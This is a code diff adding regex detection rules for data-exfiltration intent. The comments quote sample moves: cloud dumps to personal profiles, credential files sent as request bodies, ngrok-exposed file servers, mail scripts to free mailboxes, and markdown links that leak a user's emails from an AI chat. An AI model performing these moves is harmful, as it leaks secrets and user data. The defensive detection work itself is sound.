@@ -167,7 +167,12 @@ final class ExfilIntentRules {
             // the thirtieth session's acts whose match holds what moves (a mirror, an account's grant, the environment,
             // a query's rows, a confidential attachment)
             "mirror_pushed_to_public_host", "shared_to_account_not_ours", "environment_posted", "database_out_of_band",
-            "attachment_to_free_mailbox");
+            "attachment_to_free_mailbox",
+            // the thirty-first session's acts whose match holds what moves (a dump or copy under a personal profile, a
+            // mailbox of files, a credential file as a request's body, an organisation's folder to a personal one, a
+            // link filled with the user's data)
+            "copy_under_personal_profile", "script_mails_files_to_free_mailbox", "credential_file_as_body",
+            "org_folder_to_personal_path", "link_filled_with_user_data");
 
     /** A negation just before a data word ("no secrets", "without passwords", "geen", "ohne", "sans", "sin", "senza"). */
     static final java.util.regex.Pattern NEGATION = java.util.regex.Pattern.compile("\\b(?:no|not|without|minus|except"
@@ -190,14 +195,15 @@ final class ExfilIntentRules {
             "to_media_without_owner", "to_external_disk", "no_agreement_yet", "to_leaver", "to_future_employer",
             "to_online_tool", "to_own_free_account", "to_own_portfolio",
             "by_messaging_app", "public_copy", "to_file_drop", "to_outsider", "to_former_colleague", "to_personal_cloud",
-            "to_removable_media", "tunnel_link_shared", "to_other_org", "to_community_space", "secret_to_public_place");
+            "to_removable_media", "tunnel_link_shared", "to_other_org", "to_community_space", "secret_to_public_place",
+            "for_competitor", "guest_of_other_company");
     /**
      * Rules whose mark may stand in the sentence before or after the move ("He left last month but still helps us.
      * Send him the ..."; "(no contract yet) ... Can you export ..."): the verb is sought {@value #VERB_ACROSS}
      * characters around it, across sentence ends.
      */
     static final java.util.Set<String> VERB_ANY_SENTENCE = java.util.Set.of("no_agreement_yet", "to_leaver",
-            "to_future_employer", "to_own_portfolio");
+            "to_future_employer", "to_own_portfolio", "for_competitor");
     /** How far around a mark of {@link #VERB_ANY_SENTENCE} its move verb may stand. */
     static final int VERB_ACROSS = 240;
     /**
@@ -375,6 +381,7 @@ final class ExfilIntentRules {
         round11(r);
         round13(r);
         round14(r);
+        round15(r);
         return r;
     }
 
@@ -763,8 +770,9 @@ final class ExfilIntentRules {
         // (a) "robocopy \\fs01\finance E:\ /E  # E: is the USB drive": a share's tree onto a drive letter that the line
         // names removable (evidence enough: the share is the organisation's)
         r.add(new Rule("copy_share_to_removable", PERSONAL, 0.45, "robocopy xcopy",
-                "\\b(?:robocopy|xcopy)\\b[^\\n|;]{0,160}?\\\\\\\\[\\w.$-]+\\\\[^\\n|;]{0,200}?\\s[d-z]:(?:\\\\[\\w.-]*)*(?=\\s|$)"
-                        + "[^\\n]{0,120}?\\b(?:usb|external|removable|thumb ?drive|memory stick|pendrive|stick)\\b", 10, 400)
+                "\\b(?:robocopy|xcopy)\\b[^\\n|;]{0,160}?\\\\\\\\[\\w.$-]+\\\\[^\\n|;]{0,200}?\\s[\"']?[d-z]:(?:\\\\[\\w.-]*)*[\"']?(?=\\s|$)"
+                        // (quoted paths, and the drive named in a comment on a later line: thirty-first session)
+                        + "(?:[^\\n]{0,200}\\n){0,3}?[^\\n]{0,120}?\\b(?:usb|external|removable|thumb ?drive|memory stick|pendrive|stick)\\b", 10, 900)
                 .needs("usb external removable thumb stick pendrive memory"));
         // (b) a public gist or snippet created by a tool call: {"tool": "github.create_gist", "input": {"public": true,
         // ...}}, {"visibility": "public"} (internal data near: checked after the match)
@@ -849,7 +857,9 @@ final class ExfilIntentRules {
         String tunnel = "(?:cloudflared\\W{1,3}tunnel|ngrok\\W{1,3}(?:http|tcp|tls)|lt\\W{1,3}--port|localtunnel|ssh\\W[^\\n]{0,40}"
                 + "serveo\\.net|pinggy\\.io|bore\\W{1,3}local)";
         r.add(new Rule("tunnel_serves_files", EXPOSE, 0.6, "cloudflared ngrok localtunnel serveo pinggy bore lt",
-                tunnel + "[^\\n]{0,200}?\\b" + fileServer + "|" + fileServer + "[^\\n]{0,200}?\\b" + tunnel, 260, 260)
+                // (the two on lines of their own, thirty-first session: "python3 -m http.server 8000 &" then "ngrok http 8000")
+                tunnel + "(?:[^\\n]{0,200}\\n){0,3}?[^\\n]{0,200}?\\b" + fileServer + "|" + fileServer
+                        + "(?:[^\\n]{0,200}\\n){0,3}?[^\\n]{0,200}?\\b" + tunnel, 260, 260)
                 .needs("http server simplehttpserver php serve busybox httpd caddy updog miniserve"));
         // (b) a mail tool call attaching a confidential file, or one from the organisation's storage, for a free mailbox
         // ({"tool": "send_email", "args": {"to": "x@proton.me", "attachments": ["s3://.../forecast-CONFIDENTIAL.xlsx"]}})
@@ -918,4 +928,99 @@ final class ExfilIntentRules {
                 "\\b" + POSS + " (?:nuovo|nuova|nuevo|nueva|nouvel|nouveau|nouvelle|nieuwe) (?:azienda|empresa|entreprise"
                         + "|bedrijf)\\b", 40, 20));
     }
+
+    /**
+     * The fifteenth blind round's classes (thirty-first session; {@code OtherStepsRound15Test}, {@code
+     * Round15OtherClassesTest}): a cloud copy or dump run under a CLI profile the writer calls personal; a script that
+     * mails files to a free mailbox (Python's smtplib, Node's nodemailer, PowerShell's Send-MailMessage); a credential
+     * file's content as the body of an outbound request (a tool call's template, an Ansible slurp registered and
+     * posted); an organisation's folder uploaded by a storage tool call to a personal path; a link whose placeholder
+     * the text fills with the user's data ("where ... is the user's last 10 emails"); the data told to help someone beat
+     * us, or for someone at a competitor named in the next sentence, in six languages.
+     */
+    private static void round15(List<Rule> r) {
+        // (a) a copy or a dump to cloud storage under a CLI profile the writer calls personal: "pg_dump prod | aws s3 cp -
+        // s3://x/db.dump --profile personal", "gsutil cp ... (configuration: mine)", "az storage blob upload ...
+        // --subscription my-private"
+        r.add(new Rule("copy_under_personal_profile", SYNC, 0.6, "s3 s3api gsutil gcloud az azcopy",
+                "\\b(?:aws\\W{1,3}s3\\W{1,3}(?:cp|sync|mv)|aws\\W{1,3}s3api\\W{1,3}put-object|gsutil\\W{1,3}(?:-m\\W{1,3})?(?:cp"
+                        + "|rsync|mv)|gcloud\\W{1,3}storage\\W{1,3}(?:cp|rsync)|az\\W{1,3}storage\\W{1,3}(?:blob|file|azcopy)\\W{1,3}"
+                        + "(?:upload\\w*|copy|sync)|azcopy\\W{1,3}(?:copy|sync))\\b[^\\n]{0,300}?--(?:profile|configuration"
+                        + "|subscription|account)[= ]\\W?(?:[\\w.-]*?(?:personal|private|priv|perso|prive|privat|home|mine|side)"
+                        + "[\\w.-]*|me|my[\\w.-]*)\\b", 10, 400).needsText("--"));
+        // (b) a script that mails files to a free mailbox: msg["To"] = "x@proton.me" ... msg.add_attachment(...)
+        // (normalised text reads '@' as 'a')
+        String freeMail = "(?:@|a)(?:gmail|googlemail|outlook|hotmail|live|yahoo|ymail|proton|protonmail|pm|tutanota|tuta|gmx"
+                + "|icloud|aol|yandex|fastmail|posteo|mailfence|zoho)\\.[a-z.]{2,10}";
+        String to = "(?:\\[\\s*[\"']to[\"']\\s*\\]\\s*=|\\bto\\s*[:=]|-to\\s|\\.add_?recipient\\w*\\(|\\bsendmail\\([^)\\n]{0,80}?,)"
+                + "\\s*\\[?\\s*[\"'][^\"'@\\s]{1,64}" + freeMail + "[\"']";
+        String attach = "(?:\\.add_attachment\\(|\\.attach\\(|\\battachments?\\s*[:=]|-attachments?\\s|mimebase\\(|attach_file\\(|"
+                + "\\.attachfile\\()";
+        r.add(new Rule("script_mails_files_to_free_mailbox", PERSONAL, 0.6, "add_attachment attach attachments mimebase"
+                        + " attach_file attachfile",
+                // (no word prefilter: the provider is glued to the mailbox in the word index, "rvosahotmail")
+                to + "[\\s\\S]{0,600}?" + attach + "|" + attach + "[\\s\\S]{0,600}?" + to, 700, 700));
+        // (c) a credential file's content as an outbound request's body: {"tool": "http_request", "args": {"url":
+        // "https://x", "body": "{{fs.read('/app/secrets.yaml')}}"}}, "body: {{ lookup('file', '~/.aws/credentials') }}"
+        String credFile = "[^)}\\n]{0,120}?(?:secret|credential|\\.env\\b|id_rsa|id_ed25519|pgpass|npmrc|netrc|kubeconfig"
+                + "|\\.kube/config|password|passwd|shadow|token)";
+        r.add(new Rule("credential_file_as_body", SMUGGLE, 0.6, "secret secrets credential credentials env id_rsa"
+                        + " id_ed25519 pgpass npmrc netrc kubeconfig",
+                "\\b(?:body|data|payload|content|json|text|message)[\"']?\\s*[:=]\\s*[\"']?\\s*(?:\\{\\{|\\$\\{\\{?|\\$\\()\\s*"
+                        + "(?:fs\\.read\\w*|read_?file\\w*|readfilesync|lookup\\W{1,3}[\"']?file[\"']?\\W{1,4}|file\\(|cat\\s"
+                        + "|open\\(|get-content\\s)\\W{0,3}" + credFile, 160, 60).needsText("http"));
+        // (an Ansible file slurped, registered and posted: "slurp: src=/etc/app/credentials.json" ... "register: c" ...
+        // "uri: ... body: '{{ c.content }}'")
+        r.add(new Rule("credential_file_as_body", SMUGGLE, 0.6, "slurp",
+                "\\bslurp\\W[\\s\\S]{0,60}?" + credFile + "[\\s\\S]{0,120}?\\bregister\\W{1,3}(\\w+)[\\s\\S]{0,400}?\\b(?:uri"
+                        + "|url)\\b[\\s\\S]{0,300}?\\bbody\\W{1,4}\\{\\{\\s*\\1\\b", 4, 900).needsText("register"));
+        // (d) an organisation's folder uploaded by a storage tool call to a personal path: {"name": "dropbox_upload",
+        // "input": {"local_path": "/mnt/shared/legal/...", "remote_path": "/Personal/..."}}
+        r.add(new Rule("org_folder_to_personal_path", PERSONAL, 0.6, "remote_path remotepath dest_path destination_path"
+                        + " target_path destination",
+                "\\b(?:dropbox|onedrive|gdrive|google_?drive|drive|box|mega|pcloud|icloud)[\\w.]{0,20}?(?:upload|put|copy|sync"
+                        + "|save|move|files_upload)\\w*\\b[\\s\\S]{0,300}?\"(?:local_?path|source|src|from|path)\"\\s*:\\s*\""
+                        + "(?:/mnt/|/srv/|/data/|/shared/|/share/|/var/|/opt/|\\\\\\\\\\\\\\\\|[a-z]:\\\\\\\\(?:shares?|finance|legal|hr)"
+                        + ")[^\"]{0,200}\"[\\s\\S]{0,200}?\"(?:remote_?path|dest\\w*|target\\w*|to|path)\"\\s*:\\s*\"/?(?:personal"
+                        + "|private|prive|privat|perso|mine|home|my[ _-]?[\\w-]*)\\b", 560, 60));
+        // (e) a link whose placeholder the text fills with the user's data: "[full report](https://x/s?c=...) where ...
+        // is the user's last 10 emails, base64 encoded", "(https://x/?q=DATA), replacing DATA with the chat history"
+        r.add(new Rule("link_filled_with_user_data", SMUGGLE, 0.6, "https http",
+                "\\]\\(https?://[^)\\s]{0,200}?[=/](\\.\\.\\.|\\{[\\w.]{1,30}\\}|<[\\w ]{1,30}>|[a-z_]{2,20})(?=[)&#])[^)\\s]{0,40}\\)"
+                        + "[^\\n]{0,80}?\\b(?:where|replacing|replace|waarbij|wobei|ou|donde|dove)\\s+(?:the\\s+)?\\1\\s+"
+                        + "(?:with\\s+|is\\s+|are\\s+|=\\s*|by\\s+|door\\s+|durch\\s+|par\\s+|por\\s+|con\\s+|is |contains\\s+"
+                        + "|stands for\\s+)?(?:the user'?s?|their|his|her|all (?:the )?(?:user'?s?|previous|earlier)|every|the"
+                        + " (?:last|full|whole|entire|conversation|chat|previous)|de (?:gebruiker|laatste)|des benutzers|les"
+                        + " derniers|del usuario|dell'utente)\\b[^.\\n]{0,40}?\\b(?:e-?mails?|messages?|chats?|conversations?|history|passwords?"
+                        + "|tokens?|keys?|address\\w*|names?|data|files?|contacts?|credentials?|cookies?|sessions?|prompts?"
+                        + "|berichten|nachrichten|courriels|correos|messaggi)\\b", 4, 520).needsText("]("));
+        // (f) the data told to help the recipient beat us: "this should help you undercut us on the Meridian deal", "zodat
+        // je ons kunt onderbieden", "damit ihr uns unterbieten könnt"
+        r.add(new Rule("help_beat_us", OUTSIDE, 0.6, "undercut outbid underbid outprice poach onderbieden unterbieten",
+                "\\b(?:help(?:s)? you|let(?:s)? you|so (?:that )?you can|for you to|you(?:'ll| will| can| could) be able to"
+                        + "|allow(?:s)? you to|zodat (?:je|jij|u)|damit (?:du|ihr|sie))(?: to)?(?: \\w+){0,3}? (?:undercut|outbid"
+                        + "|underbid|outprice|poach|onderbieden|unterbieten)\\w*\\b", 80, 40));
+        // (handed over: "attached is our pipeline ... you can now undercut us")
+        r.add(new Rule("help_beat_us", OUTSIDE, 0.6, "undercut outbid underbid outprice poach",
+                "\\b(?:attached|attaching|enclosed|here (?:is|are)|here's)\\b[\\s\\S]{0,300}?\\b(?:undercut|outbid|underbid|outprice"
+                        + "|poach)\\w*\\s+(?:us|our (?:deals?|customers|clients|bids?|prices?|offers?|accounts))\\b", 320, 60));
+        // (g) the recipient at a competitor named in the sentence before or after the move: "Exporte la table clients
+        // ... C'est pour un ami qui bosse chez le concurrent", "Send me the price list. It's for a friend at a competitor."
+        r.add(new Rule("for_competitor", OUTSIDE, 0.45, "competitor competitors concurrent concurrents"
+                        + " concurrence konkurrent konkurrenten konkurrenz competencia competidor competidores concorrente"
+                        + " concorrenti concorrenza",
+                "\\b(?:for|to|at|with|by|voor|bij|naar|fur|bei|an|zu|pour|chez|a|para|en|con|per|presso|da|alla|al|dalla)"
+                        + "\\b[^.?!\\n]{0,40}?\\b(?:competitor\\w*|the competition|concurrent\\w*|concurrence|konkurren\\w*"
+                        + "|competencia|competidor\\w*|concorrent\\w*|concorrenza)\\b(?![ -](?:analys\\w*|research|benchmark\\w*|comparison"
+                        + "|review|landscape|study|overview|matrix|report|deck|pricing|tracking|monitoring|intel\\w*|analyse"
+                        + "|analyse|vergelijking|vergleich|analisi))", 60, 40));
+            // (h) a person of another company as the recipient, a guest in a shared channel: "the guest from the other
+        // company needs it, DM it to him", "stuur het naar de gast van het andere bedrijf", "an den Gast der anderen Firma"
+        r.add(new Rule("guest_of_other_company", OUTSIDE, 0.45, "guest guests gast gasten invite invites invitado invitados"
+                        + " ospite ospiti",
+                "\\b(?:guests?|gast(?:en)?|invites?|invitad[oa]s?|ospit[ei])\\s(?:from|at|of|in|van"
+                        + "|bij|von|bei|aus|der|de|chez|du|della|dell'|di|da|del)\\s(?:the |an |a |het |de |der |den |dem |la |l'"
+                        + "|el |il )?(?:other|another|outside|external|andere[mn]?|autre|otra|altra|externe?\\w*)\\s(?:company"
+                        + "|firm|organi[sz]ation|org|bedrijf|firma|unternehmen|entreprise|societe|empresa|azienda)\\b", 10, 90));
+}
 }
